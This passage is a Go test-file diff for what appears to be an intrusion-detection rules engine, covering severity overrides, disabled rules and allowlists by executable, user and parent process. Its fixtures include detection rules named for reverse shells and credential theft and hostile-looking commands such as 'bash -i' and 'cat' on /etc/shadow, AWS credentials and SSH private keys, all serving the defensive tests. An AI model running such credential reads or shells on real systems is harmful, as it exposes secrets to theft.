+		t.Errorf("severity = %v (rule %v), want critical", r.Severity, r.Rules[0].Severity)
+	}
+}
+
+func TestPolicyLoweringASeverityLowersTheRecord(t *testing.T) {
+	e := rules.NewEngine(mustParse(t, "rules:\n  reverse-shell:\n    severity: info\n"))
+	r := execRec(proc(100, 1000, "/usr/bin/bash", "bash", "-i"))
+	e.Evaluate(&r)
+	if got := ruleNames(&r); !slices.Equal(got, []string{"reverse-shell"}) {
+		t.Fatalf("rules = %q, want reverse-shell", got)
+	}
+	if r.Severity != record.Info {
+		t.Errorf("severity = %v, want info", r.Severity)
+	}
+}
+
+func TestPolicyDisabledRuleIsSilent(t *testing.T) {
+	e := rules.NewEngine(mustParse(t, "rules:\n  credential-read:\n    enabled: false\n"))
+	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
+	e.Evaluate(&r)
+	if len(r.Rules) != 0 || r.Severity != record.Info {
+		t.Errorf("rules = %q severity %v, want none and info", ruleNames(&r), r.Severity)
+	}
+}
+
+func TestPolicyLeavingARuleOutKeepsItsBuiltinSeverityAndNoAllowlist(t *testing.T) {
+	e := rules.NewEngine(mustParse(t, ""))
+	r := shadowRead(0, "/usr/bin/sudo", "/usr/bin/bash") // allowlisted by the default only
+	e.Evaluate(&r)
+	if got := ruleNames(&r); !slices.Equal(got, []string{"credential-read"}) || r.Severity != record.Warn {
+		t.Errorf("rules = %q severity %v, want credential-read at warn", got, r.Severity)
+	}
+}
+
+func TestPolicyGlobalAllowSilencesEveryRuleForTheExe(t *testing.T) {
+	e := rules.NewEngine(mustParse(t, "allow:\n  exe: [/usr/bin/cat]\n"))
+	for _, r := range []record.Record{
+		shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash"),
+		execRec(proc(100, 1000, "/usr/bin/cat", "cat", "/home/alice/.aws/credentials")),
+		inHome(openRec(proc(100, 1001, "/usr/bin/cat"), "/home/alice/.ssh/id_rsa", watch.ClassSSH, "read", 0), 1000),
+	} {
+		e.Evaluate(&r)
+		if len(r.Rules) != 0 || r.Severity != record.Info {
+			t.Errorf("%s of %s: rules = %q severity %v, want none", r.Event, r.Process.Args, ruleNames(&r), r.Severity)
+		}
+	}
+	r := shadowRead(1000, "/usr/bin/head", "/usr/bin/bash")
+	e.Evaluate(&r)
+	if got := ruleNames(&r); !slices.Equal(got, []string{"credential-read"}) {
+		t.Errorf("head reading /etc/shadow: rules = %q, want credential-read", got)
+	}
+}
+
+func TestPolicyRuleAllowlistByUserAndParent(t *testing.T) {
+	e := rules.NewEngine(mustParse(t, `rules:
+  credential-read:
+    allow:
+      user: [0]
+      parent: ["re:^/usr/sbin/"]
+`))
+	tests := []struct {
+		name string
+		rec  record.Record
+		want []string
+	}{
+		{"root reading /etc/shadow", shadowRead(0, "/usr/bin/cat", "/usr/bin/bash"), nil},
+		{"uid 1000 reading /etc/shadow", shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash"), []string{"credential-read"}},
+		{"started by /usr/sbin/cron", shadowRead(1000, "/usr/bin/cat", "/usr/sbin/cron"), nil},
+		{"started by /usr/bin/cron-lookalike", shadowRead(1000, "/usr/bin/cat", "/usr/bin/cron"), []string{"credential-read"}},
+		{"no known parent", func() record.Record {
+			r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
+			r.Process.Ancestry = nil
+			return r
+		}(), []string{"credential-read"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := tt.rec
+			e.Evaluate(&r)
+			if got := ruleNames(&r); !slices.Equal(got, tt.want) {
+				t.Errorf("rules = %q, want %q", got, tt.want)
+			}
+		})
+	}
+	// the allowlist is the rule's own: root still trips other rules
+	r := execRec(proc(100, 0, "/usr/bin/cat", "cat", "/etc/shadow"))
+	e.Evaluate(&r)
+	if got := ruleNames(&r); !slices.Equal(got, []string{"credential-hunting"}) {
+		t.Errorf("root's cat /etc/shadow: rules = %q, want credential-hunting", got)
+	}
+}
+
+func TestSetPolicySwapsBetweenRecords(t *testing.T) {
+	e := rules.NewEngine(policy.Default(rules.Names()))
+	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
+	e.Evaluate(&r)
+	if r.Severity != record.Warn {
+		t.Fatalf("default: severity %v, want warn", r.Severity)
+	}
+	p := mustParse(t, "rules:\n  credential-read:\n    severity: critical\n")
+	e.SetPolicy(p)
+	if e.Policy() != p {
+		t.Fatal("Policy() is not the policy just set")
+	}
+	r = shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
+	e.Evaluate(&r)
+	if r.Severity != record.Critical {
+		t.Errorf("after SetPolicy: severity %v, want critical", r.Severity)
+	}
+}
+
+func TestMonitorRecordsAndRecordsWithoutProcessAreNotJudged(t *testing.T) {
+	e := rules.NewEngine(policy.Default(rules.Names()))
+	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
+	r.Category = record.CatMonitor
+	e.Evaluate(&r)
+	if len(r.Rules) != 0 {
+		t.Errorf("monitor record: rules = %q, want none", ruleNames(&r))
+	}
+	r = shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
+	r.Process = nil
+	e.Evaluate(&r) // must not panic
+	if len(r.Rules) != 0 {
+		t.Errorf("record without a process: rules = %q, want none", ruleNames(&r))
+	}
+}
+
+func TestEvaluateKeepsAHigherSeverityAlreadySet(t *testing.T) {
+	e := rules.NewEngine(policy.Default(rules.Names()))
+	r := shadowRead(1000, "/usr/bin/cat", "/usr/bin/bash")
+	r.Severity = record.Critical
+	e.Evaluate(&r)
+	if r.Severity != record.Critical {
+		t.Errorf("severity = %v, want critical kept", r.Severity)
+	}
+}
